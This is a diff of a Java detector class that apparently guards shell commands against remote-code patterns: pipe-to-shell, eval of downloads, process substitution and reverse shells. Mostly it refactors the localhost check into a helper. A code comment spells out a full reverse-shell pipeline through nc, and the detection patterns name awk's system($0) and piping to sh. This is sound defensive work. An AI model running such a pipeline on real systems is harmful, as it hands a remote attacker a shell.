@@ -1,6 +1,5 @@
 package io.github.providergateway.guard.internal;
 
-import io.github.providergateway.guard.internal.Scan.Step;
 import io.github.providergateway.guard.shell.Redirect;
 import io.github.providergateway.guard.shell.Word;
 import java.nio.file.Path;
@@ -27,21 +26,6 @@ final class RemoteRules implements Family {
 
   static final BuiltinRule DECODED_TO_SHELL = RuleBook.rule("remote.decoded-to-shell");
   static final BuiltinRule DOWNLOAD_EXEC = RuleBook.rule("remote.download-exec");
-
-  private static final Set<String> LOCAL =
-      Set.of("localhost", "127.0.0.1", "::1", "[::1]", "0.0.0.0", "host.docker.internal");
-
-  @Override
-  public List<BuiltinRule> rules() {
-    return List.of(
-        PIPE_TO_SHELL,
-        PROCESS_SUBSTITUTION,
-        EVAL_DOWNLOAD,
-        DOWNLOAD_EXEC,
-        DECODED_TO_SHELL,
-        REVERSE_SHELL,
-        FETCH);
-  }
 
   @Override
   public void scan(Scan scan) {
@@ -70,7 +54,7 @@ final class RemoteRules implements Family {
         extracted = true;
       }
       reverseShell(scan, step);
-      if (firstReader >= 0 && firstReader < i && readsNetwork(step) && !local(step)) {
+      if (firstReader >= 0 && firstReader < i && readsNetwork(step) && !LocalUrls.only(step)) {
         // cat /tmp/f | sh -i 2>&1 | nc host port > /tmp/f: a shell's input and output through a
         // network connection, the best-known reverse shell.
         scan.hit(REVERSE_SHELL, step, null);
@@ -113,14 +97,14 @@ final class RemoteRules implements Family {
         }
         continue;
       }
-      if (!local(step)) {
+      if (!LocalUrls.only(step)) {
         scan.hit(FETCH, step, null);
       }
       downloaded.addAll(savedAs(step));
       printedDownload |= toStandardOutput(step);
-      if (FileRules.reachedBy(step, "<(") && runner) {
+      if (step.reachedBy("<(") && runner) {
         scan.hit(PROCESS_SUBSTITUTION, step, null);
-      } else if ((FileRules.reachedBy(step, "$(") || FileRules.reachedBy(step, "`")) && runner) {
+      } else if ((step.reachedBy("$(") || step.reachedBy("`")) && runner) {
         scan.hit(EVAL_DOWNLOAD, step, null);
       } else if (lastReader > i && toStandardOutput(step)) {
         scan.hit(PIPE_TO_SHELL, step, null);
@@ -371,18 +355,6 @@ final class RemoteRules implements Family {
     return path.substring(path.lastIndexOf('/') + 1);
   }
 
-  static boolean isInterpreter(String program) {
-    return isInterpreter(program, ProgramKind.of(program));
-  }
-
-  /** {@return whether a program of these {@link ProgramKind}s is a shell or an interpreter} */
-  static boolean isInterpreter(String program, int kinds) {
-    return ProgramKind.SHELL.in(kinds)
-        || ProgramKind.INTERPRETER.in(kinds)
-        || program.startsWith("python")
-        || program.startsWith("pypy");
-  }
-
   /**
    * A program that runs code it is handed: a shell or interpreter, {@code eval}, {@code source}.
    */
@@ -444,7 +416,7 @@ final class RemoteRules implements Family {
             && (texts.get(f + 1).equals("-") || texts.get(f + 1).equals("/dev/stdin"));
       }
       case "awk", "gawk", "mawk", "nawk" -> {
-        String code = InlineRules.awkCode(step);
+        String code = InterpreterCode.awk(step);
         yield code != null
             && (code.contains("system($0)")
                 || code.contains("| \"sh\"")
@@ -493,46 +465,6 @@ final class RemoteRules implements Family {
               && !argv.has("download")
               && (!argv.has('o') || "-".equals(argv.value('o'))); // fetch -o -: standard output
     };
-  }
-
-  /** Whether every URL the program is given is this machine. */
-  static boolean local(Step step) {
-    for (Word word : step.args()) {
-      String text = word.text();
-      if (text.startsWith("-")) {
-        continue;
-      }
-      if (!word.literal()) {
-        return false; // a URL the guard cannot know
-      }
-      if (text.startsWith(":")) {
-        continue; // httpie's shorthand for localhost (http :8080/health)
-      }
-      int scheme = text.indexOf("://");
-      boolean url = scheme > 0 || text.contains(".") || text.startsWith("localhost");
-      if (!url) {
-        continue;
-      }
-      String host = scheme > 0 ? text.substring(scheme + 3) : text;
-      int end = host.length();
-      for (char stop : new char[] {'/', '?', '#'}) {
-        int at = host.indexOf(stop);
-        if (at >= 0 && at < end) {
-          end = at;
-        }
-      }
-      host = host.substring(host.indexOf('@') + 1 > end ? 0 : host.indexOf('@') + 1, end);
-      if (!host.startsWith("[") && host.indexOf(':') >= 0) {
-        host = host.substring(0, host.indexOf(':'));
-      } else if (host.startsWith("[") && host.indexOf(']') > 0) {
-        host = host.substring(0, host.indexOf(']') + 1);
-      }
-      host = host.toLowerCase(Locale.ROOT);
-      if (!LOCAL.contains(host) && !host.endsWith(".localhost") && !host.startsWith("127.")) {
-        return false;
-      }
-    }
-    return true;
   }
 
   private static void reverseShell(Scan scan, Step step) {
